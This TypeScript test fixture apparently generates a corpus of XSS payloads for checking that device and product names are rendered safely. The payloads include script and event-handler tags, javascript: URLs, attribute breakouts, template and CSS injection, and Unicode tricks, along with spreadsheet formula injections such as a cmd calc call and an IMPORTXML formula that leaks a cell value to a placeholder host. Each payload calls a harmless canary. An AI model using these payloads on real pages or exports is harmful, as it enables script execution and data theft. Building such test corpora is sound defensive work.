/** What a payload calls when it runs; the test replaces it by a call with the payload's number. */
const CALL = 's4()'
/** Nobody answers there (RFC 2606): a request to it is a finding. */
export const FOREIGN_HOST = 's4.invalid'

const IMAGE = '<img src=s4x onerror=s4()>'
const FOREIGN = `http://${FOREIGN_HOST}`

const ELEMENTS = [
  '<script>s4()</script>', `<script src=${FOREIGN}/x.js></script>`, `<script src=//${FOREIGN_HOST}/x.js async></script>`, '<SCRIPT >s4()</SCRIPT >',
  '<scr<script>ipt>s4()</scr</script>ipt>', '<script type=module>s4()</script>', `<script>/*</script>${IMAGE}*/`, IMAGE, '<img src=s4x onerror="s4()">',
  '<IMG SRC=s4x ONERROR=s4()>', '<img/src=s4x/onerror=s4()>', '<img src=s4x onerror=&#115;4()>', String.raw`<img src=s4x onerror="\u00734()">`,
  `<img src=${FOREIGN}/beacon.png>`, `<img srcset="${FOREIGN}/beacon.png 1x">`, '<image src=s4x onerror=s4()>', '<svg onload=s4()>', '<svg/onload=s4()>',
  '<svg><script>s4()</script></svg>', '<svg><animate onbegin=s4() attributeName=x dur=1s>', '<svg><set onbegin=s4() attributeName=x>',
  '<svg><a xlink:href="javascript:s4()"><text y=20>go</text></a></svg>', `<svg><foreignObject>${IMAGE}</foreignObject></svg>`,
  `<svg><style>*{background:url(${FOREIGN}/c)}</style></svg>`, `<svg><use href="${FOREIGN}/sprite.svg#x"></svg>`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=s4x onerror=s4()&gt;">', '<math href="javascript:s4()">go</math>',
  '<iframe src="javascript:parent.s4()"></iframe>', '<iframe srcdoc="<script>parent.s4()</script>"></iframe>', '<iframe onload=s4()></iframe>', `<iframe src=${FOREIGN}/></iframe>`,
  '<object data="javascript:s4()"></object>', `<object data=${FOREIGN}/o></object>`, '<embed src="javascript:s4()">', `<embed src=${FOREIGN}/e.swf>`, `<base href=${FOREIGN}/>`,
  `<link rel=stylesheet href=${FOREIGN}/x.css>`, `<link rel=prefetch href=${FOREIGN}/p>`, '<meta http-equiv=refresh content="0;url=javascript:s4()">',
  `<meta http-equiv=refresh content="0;url=${FOREIGN}/">`, '<form action="javascript:s4()"><button autofocus onfocus=s4()>go</button></form>',
  '<form><button formaction="javascript:s4()">go</button></form>', '<input autofocus onfocus=s4()>', '<input type=image src=s4x onerror=s4()>', '<select autofocus onfocus=s4()>',
  '<textarea autofocus onfocus=s4()>', '<details open ontoggle=s4()><summary>go</summary></details>', '<video src=s4x onerror=s4()></video>',
  '<video><source onerror=s4()></video>', '<audio src=s4x onerror=s4()>', `<video poster=${FOREIGN}/p.png></video>`, '<body onload=s4()>', `<table background=${FOREIGN}/t><tr><td>go`,
  '<marquee onstart=s4()>go</marquee>', '<div onpointerover=s4() style="position:fixed;inset:0">go</div>', '<div onmouseenter=s4()>go</div>', '<x contenteditable onfocus=s4() autofocus tabindex=1>',
  `<style>@import '${FOREIGN}/x.css';</style>`, '<style>@keyframes s4{}*{animation:s4}</style><b onanimationstart=s4()>go</b>', `<template>${IMAGE}</template>`,
  `<template shadowrootmode=open>${IMAGE}</template>`, `<noscript><p title="</noscript>${IMAGE}">`, '<a href="javascript:s4()">go</a>', '<a href="jav&#x09;ascript:s4()">go</a>',
  `<a href="${FOREIGN}/" ping=${FOREIGN}/ping>go</a>`, `<dialog open>${IMAGE}</dialog>`, '<button popovertarget=p>go</button><div popover id=p onbeforetoggle=s4()>go</div>',
  `<!-->${IMAGE}-->`, `<![CDATA[${IMAGE}]]>`, '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">s4()</x:script>', `<${IMAGE}`, '<img src=s4x onerror=s4()//',
  `</textarea>${IMAGE}`, `</title>${IMAGE}`, `</style>${IMAGE}`, `</script>${IMAGE}`, `-->${IMAGE}`, `]]>${IMAGE}`, '<style>@scope{*{display:none}}</style>',
]

const ADDRESSES = [
  'javascript:s4()', 'JaVaScRiPt:s4()', 'java\nscript:s4()', '\u0001javascript:s4()', 'javascript://%0as4()', 'data:text/html,<script>s4()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuczQoKTwvc2NyaXB0Pg==', 'vbscript:s4()', `//${FOREIGN_HOST}/x`, String.raw`\\${FOREIGN_HOST}\x`,
]

const BREAKOUTS = [
  '" onmouseover="s4()', '"onmouseover="s4()', "' onmouseover='s4()", "'onpointerover='s4()", '` onmouseover=s4()', '" autofocus onfocus="s4()" x="', `">${IMAGE}`, `'>${IMAGE}`,
  '"><script>s4()</script>', '" style="animation:s4" onanimationstart="s4()', 'x onerror=s4()', `"]${IMAGE}`, '"][data-device="', String.raw`\"];s4()//`, "';s4();//", '");s4();//',
  '`+s4()+`', String.raw`\u0022;s4();//`, String.raw`\x3cimg src=s4x onerror=s4()\x3e`, '*/s4()/*',
]

const TEMPLATES = [
  "{{constructor.constructor('s4()')()}}", "{{_c.constructor('s4()')()}}", "{{_openBlock.constructor('s4()')()}}", "{{$emit.constructor('s4()')()}}", "[[constructor.constructor('s4()')()]]",
  `<div v-html="'${IMAGE}'">`, '<component :is="\'script\'">s4()</component>', '<x @pointerover="s4()" v-on:click="s4()">', "<div v-if=\"constructor.constructor('s4()')()\">", '${s4()}', '#{s4()}',
  '<%= s4() %>', '{% s4() %}', '__proto__', 'constructor', 'toString',
]

const STYLES = [
  `red;background:url(${FOREIGN}/c)`, `}*{background:url(${FOREIGN}/c)}`, 'expression(s4())', 'url(javascript:s4())', '</style><style>@scope{*{display:none}}</style>', `@import '${FOREIGN}/x.css';`,
]

const CHARACTERS = [
  `\u202E${IMAGE}`, `${IMAGE}\u2066\u2069`, '＜img src=s4x onerror=s4()＞', `\u0000${IMAGE}`, '<im\u0000g src=s4x onerror=s4()>', `\uFEFF<script>s4()</script>`, '<img\u00A0src=s4x onerror=s4()>',
  '+ADw-img src=s4x onerror=s4()+AD4-', '\u2028s4()\u2029', '%3Cimg%20src=s4x%20onerror=s4()%3E', '&lt;img src=s4x onerror=s4()&gt;', '&amp;lt;script&amp;gt;s4()', `z${'\u0301'.repeat(60)}${IMAGE}`,
  '\u001B[31ms4()\u0007', '\u200B<svg\u200B onload=s4()>', `\u{E0041}${IMAGE}`,
]

const OVERLONG = [IMAGE.repeat(200), `${'A'.repeat(10_000)}${IMAGE}`, `${'<b>'.repeat(600)}${IMAGE}`, `${'"><'.repeat(500)}svg onload=s4()>`]

const FORMULAS = [
  "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', `＝HYPERLINK("${FOREIGN}","x")`, `=IMPORTXML(CONCAT("${FOREIGN}/",A1),"//a")`,
  '"=1+1', '=HYPERLINK("javascript:s4()";"go")', '＋1+1', '＠SUM(1)', '|=1+1', "'=1+1",
]

/** Distinct texts that would do something where they are taken for more than text. Each calls `s4` with its own number. */
export function scriptPayloads(): string[] {
  return [...ELEMENTS, ...ADDRESSES, ...BREAKOUTS, ...TEMPLATES, ...STYLES, ...CHARACTERS, ...OVERLONG, ...FORMULAS].map((text, index) => text.replaceAll(CALL, `s4(${index})`))
}

/** As much of a payload as a ProductId or a DeviceName may hold (cloud-api §4: no separator, no control character, 512 at most). */
export function asName(payload: string, suffix: string): string {
  return `${payload.replaceAll(/[\s,;/，；\p{Cc}]+/gu, '_').slice(0, 480)}${suffix}`
}
